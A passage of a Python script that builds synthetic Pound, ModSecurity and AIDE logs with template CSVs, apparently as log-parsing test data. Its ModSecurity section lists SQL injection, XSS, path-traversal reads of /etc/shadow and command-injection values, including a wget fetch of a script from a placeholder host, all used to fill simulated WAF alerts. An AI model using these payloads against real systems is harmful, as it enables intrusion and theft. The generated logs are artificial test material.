    tids = ["7f" + hexs(rng, 7) + "700" for _ in range(14)]

    def tid():
        return rng.choice(tids)

    def mk_request(t):
        code, phrase = rng.choice(PD_STATUS)
        method = cyc(("request", "method"), ["GET"] * 6 + ["POST", "GET", "HEAD", "GET", "PUT"])
        host = rng.choice(PD_HOSTS)
        be = rng.choice(PD_BACKENDS[3:] if host.startswith("api") else PD_BACKENDS[:3])
        return [pub_ip(rng), method, pd_path(rng), code, phrase, host, be,
                f"{rng.lognormvariate(-3.8, 1.1):.3f}"], None

    def mk_e503(t):
        method = cyc(("e503", "m"), ["GET", "GET", "POST"])
        return [tid(), f"{method} {pd_path(rng)} HTTP/1.1", pub_ip(rng), rng.choice(PD_HOSTS)], None

    def mk_e500(t):
        return [tid(), pub_ip(rng), rng.choice(PD_BACKENDS),
                cyc(("e500", "why"), ["Connection reset by peer", "Connection timed out", "Resource temporarily unavailable"])], None

    def mk_connect(t):
        return [tid(), rng.choice(PD_BACKENDS),
                cyc(("connect", "why"), ["Connection refused", "Connection timed out", "No route to host", "Connection refused"])], None

    def mk_dead(t):
        return [tid(), cyc(("dead", "be"), PD_BACKENDS)], None

    def mk_resurrect(t):
        return [tid(), cyc(("resurrect", "be"), PD_BACKENDS)], None

    def mk_read_err(t):
        return [tid(), pub_ip(rng),
                cyc(("read_err", "why"), ["Connection reset by peer", "Connection timed out", "Connection reset by peer", "Broken pipe"])], None

    def mk_e400(t):
        req = cyc(("e400", "req"), ["GET /../../etc/passwd HTTP/1.1", "GET /%c0%ae%c0%ae/ HTTP/1.1",
                                    "GET /index.html HTTP/1.1 extra", "POST /login HTTP/1.1 x"])
        return [tid(), req, pub_ip(rng)], None

    def mk_e501(t):
        req = cyc(("e501", "req"), ["PROPFIND / HTTP/1.1", "TRACE / HTTP/1.1", "CONNECT example.net:443 HTTP/1.1",
                                    "DEBUG /default.aspx HTTP/1.1", "SEARCH / HTTP/1.1"])
        return [tid(), req, pub_ip(rng)], None

    def mk_e414(t):
        return [tid(), pub_ip(rng)], None

    def mk_ssl(t):
        return [tid(), pub_ip(rng), cyc(("ssl", "why"), [
            "error:0A00010B:SSL routines::wrong version number",
            "error:0A0000C1:SSL routines::no shared cipher",
            "error:0A000102:SSL routines::unsupported protocol",
            "error:0A000416:SSL routines::sslv3 alert certificate unknown",
            "error:0A00006C:SSL routines::bad key share"])], None

    def mk_starting(t):
        return [], None

    def mk_shutdown(t):
        return [], None

    makers = {k[3:]: v for k, v in locals().items() if k.startswith("mk_")}
    counts = [(k, PD_COUNTS[k]) for k, _ in PD_EVENTS]
    return build_shuffle(rng, counts, makers, lambda t, h: f"{ts_syslog(t)} lb1 pound: ",
                         9 * 3600 * NS + 4 * 60 * NS + sec(rng, 0, 60), 9)


# ============================================================================
# 5. ModSecurity messages in the Apache 2.4 error log (shuffle)
# ============================================================================
CRS = "/usr/share/modsecurity-crs/rules/"
CRSV = '[ver "OWASP_CRS/3.3.5"]'
TAG3 = '[tag "application-multi"] [tag "language-multi"] [tag "platform-multi"]'
MS_SUFFIX = ' [hostname "<*>"] [uri "<*>"] [unique_id "<*>"]'
MS_EVENTS = [
    ("configured", "ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/) configured."),
    ("apr", 'ModSecurity: APR compiled version="1.7.2"; loaded version="1.7.2"'),
    ("status_engine", "ModSecurity: Status engine is currently disabled, enable it by set SecStatusEngine to On."),
    ("sqli", "ModSecurity: Warning. detected SQLi using libinjection with fingerprint '<*>' "
             f'[file "{CRS}REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "46"] [id "942100"] '
             '[msg "SQL Injection Attack Detected via libinjection"] [data "Matched Data: <*> found within <*>: <*>"] '
             f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-sqli"] [tag "paranoia-level/1"] [tag "OWASP_CRS"] '
             '[tag "capec/1000/152/248/66"] [tag "PCI/6.5.2"]' + MS_SUFFIX),
    ("xss", "ModSecurity: Warning. detected XSS using libinjection. "
            f'[file "{CRS}REQUEST-941-APPLICATION-ATTACK-XSS.conf"] [line "55"] [id "941100"] '
            '[msg "XSS Attack Detected via libinjection"] [data "Matched Data: XSS data found within <*>: <*>"] '
            f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-xss"] [tag "paranoia-level/1"] [tag "OWASP_CRS"] '
            '[tag "capec/1000/152/242"]' + MS_SUFFIX),
    ("scanner", 'ModSecurity: Warning. Matched phrase "<*>" at REQUEST_HEADERS:User-Agent. '
                f'[file "{CRS}REQUEST-913-SCANNER-DETECTION.conf"] [line "34"] [id "913100"] '
                '[msg "Found User-Agent associated with security scanner"] '
                '[data "Matched Data: <*> found within REQUEST_HEADERS:User-Agent: <*>"] '
                f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-reputation-scanner"] [tag "paranoia-level/1"] '
                '[tag "OWASP_CRS"] [tag "capec/1000/118/224/541/310"] [tag "PCI/6.5.10"]' + MS_SUFFIX),
    ("numeric_host", r'ModSecurity: Warning. Pattern match "(?:^([\\d.]+|\\[[\\da-f:]+\\]|[\\da-f:]+)(:[\\d]+)?$)" at REQUEST_HEADERS:Host. '
                     f'[file "{CRS}REQUEST-920-PROTOCOL-ENFORCEMENT.conf"] [line "736"] [id "920350"] '
                     '[msg "Host header is a numeric IP address"] [data "<*>"] '
                     f'[severity "WARNING"] {CRSV} {TAG3} [tag "attack-protocol"] [tag "paranoia-level/1"] '
                     '[tag "OWASP_CRS"] [tag "capec/1000/210/272"] [tag "PCI/6.5.10"]' + MS_SUFFIX),
    ("blocked", "ModSecurity: Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score. "
                f'[file "{CRS}REQUEST-949-BLOCKING-EVALUATION.conf"] [line "94"] [id "949110"] '
                '[msg "Inbound Anomaly Score Exceeded (Total Score: <*>)"] '
                f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-generic"]' + MS_SUFFIX),
    ("lfi", 'ModSecurity: Warning. Matched phrase "<*>" at <*>. '
            f'[file "{CRS}REQUEST-930-APPLICATION-ATTACK-LFI.conf"] [line "97"] [id "930120"] '
            '[msg "OS File Access Attempt"] [data "Matched Data: <*> found within <*>: <*>"] '
            f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-lfi"] [tag "paranoia-level/1"] '
            '[tag "OWASP_CRS"] [tag "capec/1000/255/153/126"] [tag "PCI/6.5.4"]' + MS_SUFFIX),
    ("no_accept", 'ModSecurity: Warning. Match of "pm AppleWebKit Android" against "REQUEST_HEADERS:User-Agent" required. '
                  f'[file "{CRS}REQUEST-920-PROTOCOL-ENFORCEMENT.conf"] [line "1294"] [id "920300"] '
                  f'[msg "Request Missing an Accept Header"] [severity "NOTICE"] {CRSV} {TAG3} '
                  '[tag "attack-protocol"] [tag "OWASP_CRS"] [tag "capec/1000/210/272"] [tag "PCI/6.5.10"] '
                  '[tag "paranoia-level/2"]' + MS_SUFFIX),
    ("correlation", "ModSecurity: Warning. Operator GE matched 5 at TX:inbound_anomaly_score. "
                    f'[file "{CRS}RESPONSE-980-CORRELATION.conf"] [line "92"] [id "980130"] '
                    '[msg "Inbound Anomaly Score Exceeded (Total Inbound Score: <*> - SQLI=<*>,XSS=<*>,RFI=<*>,LFI=<*>,RCE=<*>,PHPI=<*>,HTTP=<*>,SESS=<*>): <*>"] '
                    f'{CRSV} [tag "event-correlation"]' + MS_SUFFIX),
    ("body_limit", "ModSecurity: Request body no files data length is larger than the configured limit (131072).. Deny with code (413)" + MS_SUFFIX),
    ("audit_fail", "ModSecurity: Audit log: Failed writing (requested <*> bytes, written <*>)" + MS_SUFFIX),
    ("rce", 'ModSecurity: Warning. Matched phrase "<*>" at <*>. '
            f'[file "{CRS}REQUEST-932-APPLICATION-ATTACK-RCE.conf"] [line "502"] [id "932160"] '
            '[msg "Remote Command Execution: Unix Shell Code Found"] [data "Matched Data: <*> found within <*>: <*>"] '
            f'[severity "CRITICAL"] {CRSV} {TAG3} [tag "attack-rce"] [tag "paranoia-level/1"] '
            '[tag "OWASP_CRS"] [tag "capec/1000/152/248/88"] [tag "PCI/6.5.2"]' + MS_SUFFIX),
]
MS_COUNTS = {"configured": 3, "apr": 3, "status_engine": 3, "sqli": 30, "xss": 16, "scanner": 22,
             "numeric_host": 95, "blocked": 40, "lfi": 10, "no_accept": 25, "correlation": 35,
             "body_limit": 6, "audit_fail": 4, "rce": 8}
MS_VHOSTS = ["www.tidewater-books.example", "shop.tidewater-books.example", "api.tidewater-books.example"]
MS_URIS = ["/", "/index.php", "/catalog/search.php", "/cart/add.php", "/account/login.php",
           "/api/v1/books", "/api/v1/orders", "/wp-login.php", "/xmlrpc.php", "/admin/config.php",
           "/download.php", "/.env", "/cgi-bin/luci", "/graphql"]
MS_SQLI = [("s&sos", "ARGS:id", "1' or '1'='1"), ("1UE", "ARGS:q", "1 union select null,version(),null-- -"),
           ("s&1c", "ARGS:user", "admin'-- -"), ("1&((", "ARGS:cat", "1 and (select 1 from (select sleep(5))a)"),
           ("sos", "REQUEST_COOKIES:sid", "x' or 'x'='x"), ("Tn(f(", "ARGS:sort", "extractvalue(1,concat(0x7e,user()))")]
MS_XSS = [("ARGS:q", "<script>alert(document.domain)</script>"), ("ARGS:name", "<img src=x onerror=alert(1)>"),
          ("ARGS:redirect", "javascript:alert(1)//"), ("REQUEST_HEADERS:Referer", "<svg/onload=confirm(1)>")]
MS_SCANNERS = [("nikto", "mozilla/5.00 (nikto/2.5.0) (evasions:none) (test:000562)"),
               ("sqlmap", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
               ("nuclei", "mozilla/5.0 (x11; linux x86_64) nuclei/3.2.4"),
               ("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
               ("zgrab", "mozilla/5.0 zgrab/0.x")]
MS_LFI = [("etc/passwd", "ARGS:file", "../../../../etc/passwd"), ("etc/shadow", "ARGS:page", "/etc/shadow"),
          ("proc/self/environ", "ARGS:path", "....//....//proc/self/environ"),
          ("boot.ini", "REQUEST_FILENAME", "/download.php/../../boot.ini"), (".htaccess", "ARGS:template", "../.htaccess")]
MS_RCE = [("bin/sh", "ARGS:cmd", "; /bin/sh -c id"), ("bin/bash", "ARGS:host", "127.0.0.1;/bin/bash -i"),
          ("usr/bin/wget", "ARGS:url", "|/usr/bin/wget http://198.51.100.66/x.sh"),
          ("bin/cat", "ARGS:ping", "8.8.8.8 && /bin/cat /etc/hosts")]
MS_B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@-"


def build_modsecurity(rng):
    cyc = Cyc(rng)
    parent_pid = "1388"
    children = {str(p): [str(139800000000000 + rng.randrange(10 ** 11)) for _ in range(5)]
                for p in (rng.randrange(20000, 30000) for _ in range(4))}

    def uid():
        return ("Z" + "".join(rng.choice(MS_B64) for _ in range(8)) + "AAEAA"
                + "".join(rng.choice(MS_B64) for _ in range(6)) + "AAAA" + rng.choice("ABCDEFGHIJK"))

    def req_hdr():
        pid = rng.choice(sorted(children))
        return {"level": "error", "pid": pid, "tid": rng.choice(children[pid]),
                "client": f"{pub_ip(rng)}:{eph_port(rng)}"}

    def start_hdr():
        return {"level": "notice", "pid": parent_pid, "tid": "140221754587008", "client": None}

    def vh(ev):
        return cyc((ev, "vhost"), MS_VHOSTS)

    def uri(ev):
        return cyc((ev, "uri"), MS_URIS)

    def mk_configured(t):
        return [], start_hdr()

    def mk_apr(t):
        return [], start_hdr()

    def mk_status_engine(t):
        return [], start_hdr()

    def mk_sqli(t):
        fp, var, payload = cyc(("sqli", "p"), MS_SQLI)
        return [fp, fp, var, payload, vh("sqli"), uri("sqli"), uid()], req_hdr()

    def mk_xss(t):
        var, payload = cyc(("xss", "p"), MS_XSS)
        return [var, payload, vh("xss"), uri("xss"), uid()], req_hdr()

    def mk_scanner(t):
        phrase, ua = cyc(("scanner", "ua"), MS_SCANNERS)
        return [phrase, phrase, ua, vh("scanner"), uri("scanner"), uid()], req_hdr()

    def mk_numeric_host(t):
        ip = cyc(("numeric_host", "ip"), ["198.18.77.10", "198.18.77.11", "198.18.77.10:443", "198.18.77.12"])
        return [ip, ip.split(":")[0], uri("numeric_host"), uid()], req_hdr()

    def mk_blocked(t):
        return [cyc(("blocked", "score"), ["5", "10", "8", "15", "13", "23", "5"]),
                vh("blocked"), uri("blocked"), uid()], req_hdr()

    def mk_lfi(t):
        phrase, var, payload = cyc(("lfi", "p"), MS_LFI)
        return [phrase, var, phrase, var, payload, vh("lfi"), uri("lfi"), uid()], req_hdr()

    def mk_no_accept(t):
        return [vh("no_accept"), uri("no_accept"), uid()], req_hdr()

    def mk_correlation(t):
        cats = [rng.choice([0, 0, 5, 5, 10]), rng.choice([0, 0, 5]), rng.choice([0, 0, 0, 5]),
                rng.choice([0, 0, 5]), rng.choice([0, 0, 5]), rng.choice([0, 0, 0, 5]),
                rng.choice([0, 2, 3, 5]), rng.choice([0, 0, 0, 5])]
        if sum(cats) < 5:
            cats[0] += 5
        tot = sum(cats)
        pl2 = rng.choice([0, 0, 2, 3])
        return [tot + pl2] + cats + [f"individual paranoia level scores: {tot}, {pl2}, 0, 0",
                                      vh("correlation"), uri("correlation"), uid()], req_hdr()

    def mk_body_limit(t):
        return [vh("body_limit"), cyc(("body_limit", "uri"), ["/api/v1/orders", "/account/avatar.php", "/graphql"]), uid()], req_hdr()

    def mk_audit_fail(t):
        req = rng.randrange(1800, 90000)
        return [req, cyc(("audit_fail", "w"), ["0", str(req // 2), "0"]), vh("audit_fail"), uri("audit_fail"), uid()], req_hdr()

    def mk_rce(t):
        phrase, var, payload = cyc(("rce", "p"), MS_RCE)
        return [phrase, var, phrase, var, payload, vh("rce"), uri("rce"), uid()], req_hdr()

    def header(t, h):
        client = f"[client {h['client']}] " if h["client"] else ""
        return f"[{ts_apache(t)}] [security2:{h['level']}] [pid {h['pid']}:tid {h['tid']}] {client}"

    makers = {k[3:]: v for k, v in locals().items() if k.startswith("mk_")}
    counts = [(k, MS_COUNTS[k]) for k, _ in MS_EVENTS]
    return build_shuffle(rng, counts, makers, header, 10 * 3600 * NS + 7 * 60 * NS + sec(rng, 0, 60), 14)


# ============================================================================
# 6. AIDE check report forwarded line by line through syslog (shuffle)
# ============================================================================
AI_EVENTS = [
    ("start", "Start timestamp: <*> (AIDE <*>)"),
    ("found", "AIDE found differences between database and filesystem!!"),
    ("no_diff", "AIDE found NO differences between database and filesystem. Looks okay!!"),
    ("total", "Total number of entries: <*>"),
    ("added_n", "Added entries: <*>"),
    ("removed_n", "Removed entries: <*>"),
    ("changed_n", "Changed entries: <*>"),
    ("separator", "---------------------------------------------------"),
    ("added", "f++++++++++++++++: <*>"),
    ("removed", "f----------------: <*>"),
    ("changed", "f <*> : <*>"),
    ("file", "File: <*>"),
    ("size", "Size      : <*> | <*>"),
    ("mtime", "Mtime     : <*> | <*>"),
    ("end", "End timestamp: <*> (run time: <*>)"),
]
AI_COUNTS = {"start": 12, "found": 9, "no_diff": 4, "total": 13, "added_n": 13, "removed_n": 13,
             "changed_n": 13, "separator": 59, "added": 20, "removed": 6, "changed": 36, "file": 36,
             "size": 18, "mtime": 36, "end": 12}
AI_HOSTS = [("web01", "23817"), ("web02", "24110"), ("db-primary", "4410"), ("bastion", "9921")]
AI_PATHS = ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/ssh/sshd_config", "/etc/sudoers.d/90-ops",
            "/etc/nginx/sites-enabled/shop.conf", "/etc/cron.d/logrotate-extra", "/usr/bin/sudo",
            "/usr/sbin/sshd", "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/etc/resolv.conf",
            "/etc/systemd/system/backup.service", "/root/.ssh/authorized_keys", "/etc/hosts",
            "/usr/local/bin/deploy-hook", "/etc/postgresql/16/main/pg_hba.conf", "/boot/grub/grub.cfg",
            "/etc/ld.so.cache"]
AI_ADDED = ["/etc/cron.d/backup-offsite", "/usr/local/bin/node_exporter", "/etc/apt/sources.list.d/pgdg.list",
            "/etc/sudoers.d/91-deploy", "/usr/lib/modules/6.8.0-45-generic/modules.dep",
            "/etc/ssl/certs/kestrel-root.pem", "/home/deploy/.ssh/authorized_keys"]
AI_REMOVED = ["/usr/lib/modules/6.8.0-41-generic/modules.dep", "/etc/cron.d/certbot-old",
              "/usr/local/bin/legacy-sync", "/etc/apt/sources.list.d/old-mirror.list"]
AI_FLAGS = ["  ...    .C...", "  ...mc..  .C..", "  s..mc..  .C..", "  ....c..   ...", "  ..p.c..   ...", "  ...m.i.  .C.."]


def build_aide(rng):
    cyc = Cyc(rng)

    def host():
        return {"host": rng.choice(AI_HOSTS)}

    def when(t, back_lo, back_hi):
        return ts_aide(max(0, t - sec(rng, back_lo, back_hi)))

    def mk_start(t):
        return [when(t, 1, 200), cyc(("start", "ver"), ["0.18.6", "0.18.6", "0.17.4"])], host()

    def mk_found(t):
        return [], host()

    def mk_no_diff(t):
        return [], host()

    def mk_total(t):
        return [rng.randrange(38000, 212000)], host()

    def mk_added_n(t):
        return [cyc(("added_n", "n"), ["0", "1", "2", "0", "3", "5"])], host()

    def mk_removed_n(t):
        return [cyc(("removed_n", "n"), ["0", "0", "1", "0", "2"])], host()

    def mk_changed_n(t):
        return [cyc(("changed_n", "n"), ["0", "4", "2", "7", "1", "12", "3"])], host()

    def mk_separator(t):
        return [], host()

    def mk_added(t):
        return [rng.choice(AI_ADDED)], host()

    def mk_removed(t):
        return [cyc(("removed", "p"), AI_REMOVED)], host()

    def mk_changed(t):
        return [cyc(("changed", "f"), AI_FLAGS), rng.choice(AI_PATHS)], host()

    def mk_file(t):
        return [rng.choice(AI_PATHS)], host()

    def mk_size(t):
        old = rng.randrange(120, 900000)
        return [old, max(1, old + rng.randrange(-400, 2400))], host()

    def mk_mtime(t):
        old = (f"2026-0{rng.choice([1, 2])}-{rng.randrange(10, 28):02d} {rng.randrange(0, 24):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d} +0000")
        new = f"2026-03-{rng.choice([12, 13, 13, 14]):02d} {rng.randrange(0, 3):02d}:{rng.randrange(60):02d}:{rng.randrange(60):02d} +0000"
        return [old, new], host()

    def mk_end(t):
        rt = rng.randrange(40, 900)
        return [ts_aide(t), f"{rt // 60}m {rt % 60}s"], host()

    def header(t, h):
        name, pid = h["host"]
        return f"{ts_syslog(t)} {name} aide[{pid}]: "

    makers = {k[3:]: v for k, v in locals().items() if k.startswith("mk_")}
    counts = [(k, AI_COUNTS[k]) for k, _ in AI_EVENTS]
    return build_shuffle(rng, counts, makers, header, 3 * 3600 * NS + 10 * 60 * NS + sec(rng, 0, 30), 4)


# ============================================================================
# systems table
# ============================================================================
SYSTEMS = [
    # name, events, builder, kind, header regex (must fully match the header)
    ("Libreswan", LS_EVENTS, build_libreswan, "simulation",
     r"(?P<ts>Mar 14 \d\d:\d\d:\d\d) gw-east pluto\[1873\]: "),
    ("Ocserv", OC_EVENTS, build_ocserv, "simulation",
     r"(?P<ts>Mar 14 \d\d:\d\d:\d\d) sslvpn-a ocserv\[\d+\]: "),
    ("SoftEther", SE_EVENTS, build_softether, "shuffle",
     r"(?P<ts>2026-03-14 \d\d:\d\d:\d\d\.\d{3}) "),
    ("Pound", PD_EVENTS, build_pound, "shuffle",
     r"(?P<ts>Mar 14 \d\d:\d\d:\d\d) lb1 pound: "),
    ("ModSecurity", MS_EVENTS, build_modsecurity, "shuffle",
     r"\[(?P<ts>Sat Mar 14 \d\d:\d\d:\d\d\.\d{6} 2026)\] \[security2:(?:error|notice)\] "
     r"\[pid \d+:tid \d+\] (?:\[client \d{1,3}(?:\.\d{1,3}){3}:\d+\] )?"),
    ("Aide", AI_EVENTS, build_aide, "shuffle",
     r"(?P<ts>Mar 14 \d\d:\d\d:\d\d) [a-z0-9-]+ aide\[\d+\]: "),
]


def write_system(k, name, events, builder):
    rng = random.Random(BASE_SEED * 10 + k)
    rows = builder(rng)
    if len(rows) != N_LINES:
        raise SystemExit(f"{name}: builder produced {len(rows)} lines, not {N_LINES}")
    eid = {key: f"E{i + 1}" for i, (key, _) in enumerate(events)}
    tpl = dict(events)
    d = os.path.join(ROOT, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, f"{name}.log"), "w", encoding="utf-8", newline="\n") as f:
        for t, header, key, vals in rows:
            f.write(header + fill(tpl[key], vals) + "\n")
    with open(os.path.join(d, f"{name}.log_structured.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["LineId", "Content", "EventId", "EventTemplate"])
        for i, (t, header, key, vals) in enumerate(rows, 1):
            w.writerow([i, fill(tpl[key], vals), eid[key], tpl[key]])


# ============================================================================
# self-check: re-read the files from disk
# ============================================================================
def tpl_regex(tpl):
    return re.compile("(.+?)".join(re.escape(p) for p in tpl.split("<*>")), re.S)


def check_system(name, events, header_re):
    errs = []
    d = os.path.join(ROOT, name)
    with open(os.path.join(d, f"{name}.log"), "rb") as f:
        raw = f.read()
    if not raw.endswith(b"\n"):
        errs.append("log does not end with newline")
    if b"\r" in raw:
        errs.append("log contains CR")
    lines = raw.decode("utf-8").split("\n")[:-1]
    with open(os.path.join(d, f"{name}.log_structured.csv"), "rb") as f:
        craw = f.read()
    if not craw.endswith(b"\n") or b"\r" in craw:
        errs.append("csv newline/CR problem")
    with open(os.path.join(d, f"{name}.log_structured.csv"), encoding="utf-8", newline="") as f:
        rdr = list(csv.reader(f))
    header, rows = rdr[0], rdr[1:]
    if header != ["LineId", "Content", "EventId", "EventTemplate"]:
        errs.append(f"bad csv header {header}")
    if len(lines) != N_LINES:
        errs.append(f"{len(lines)} log lines")
    if len(rows) != N_LINES:
        errs.append(f"{len(rows)} csv rows")
    declared = {f"E{i + 1}": t for i, (_, t) in enumerate(events)}
    if len(set(declared.values())) != len(declared):
        errs.append("declared templates not distinct")
    hre = re.compile(header_re)
    last = -1
    seen_tpl = {}
    slot_vals = {}
    counts = {}
    for i, (line, row) in enumerate(zip(lines, rows), 1):
        if len(row) != 4:
            errs.append(f"row {i}: {len(row)} columns")
            continue
        lid, content, ev, tpl = row
        if lid != str(i):
            errs.append(f"row {i}: LineId {lid}")
        if not content or content != content.strip():
            errs.append(f"row {i}: content empty or not stripped")
        if "\n" in line or "\n" in content:
            errs.append(f"row {i}: embedded newline")
        if not line.endswith(content):
            errs.append(f"row {i}: raw line does not end with content")
            continue
        hdr = line[: len(line) - len(content)]
        m = hre.fullmatch(hdr)
        if not m:
            errs.append(f"row {i}: header {hdr!r} does not match")
            continue
        k = ts_key(m.group("ts"))
        if k < last:
            errs.append(f"row {i}: timestamp goes back")
        last = k
        if not re.fullmatch(r"E\d+", ev):
            errs.append(f"row {i}: bad EventId {ev}")
        if ev not in declared or declared[ev] != tpl:
            errs.append(f"row {i}: {ev} template differs from declaration")
        if seen_tpl.setdefault(ev, tpl) != tpl:
            errs.append(f"row {i}: {ev} has two templates")
        mm = tpl_regex(tpl).fullmatch(content)
        if not mm:
            errs.append(f"row {i}: template does not match content")
            continue
        for j, g in enumerate(mm.groups()):
            slot_vals.setdefault((ev, j), set()).add(g)
        counts[ev] = counts.get(ev, 0) + 1
    if len(set(seen_tpl.values())) != len(seen_tpl):
        errs.append("two EventIds share a template")
    if set(counts) != set(declared):
        errs.append(f"unused events: {sorted(set(declared) - set(counts))}")
    for ev, tpl in declared.items():
        for j in range(tpl.count("<*>")):
            if len(slot_vals.get((ev, j), ())) < 2:
                errs.append(f"{ev} slot {j + 1} has fewer than 2 distinct values")
    c = sorted(counts.values())
    if not 12 <= len(declared) <= 15:
        errs.append(f"{len(declared)} event types")
    if c and c[0] < 3:
        errs.append(f"an event has only {c[0]} lines")
    if sum(1 for x in c if 3 <= x <= 10) < 3:
        errs.append("fewer than 3 events with 3-10 lines")
    med = statistics.median(c) if c else 0
    if c and c[-1] < 3 * med:
        errs.append(f"largest {c[-1]} < 3 x median {med}")
    return errs, counts, med


def main():
    for k, (name, events, builder, kind, hre) in enumerate(SYSTEMS, 1):
        write_system(k, name, events, builder)
    bad = False
    for k, (name, events, builder, kind, hre) in enumerate(SYSTEMS, 1):
        errs, counts, med = check_system(name, events, hre)
        c = [counts.get(f"E{i + 1}", 0) for i in range(len(events))]
        status = "OK" if not errs else "FAIL"
        print(f"{name:12s} {kind:10s} events={len(events):2d} lines={sum(c)} "
              f"min={min(c)} median={med} max={max(c)} counts={c} {status}")
        for e in errs[:25]:
            print("    " + e)
        bad = bad or bool(errs)
    if bad:
        sys.exit(1)
    print("self-check passed")


if __name__ == "__main__":
    main()
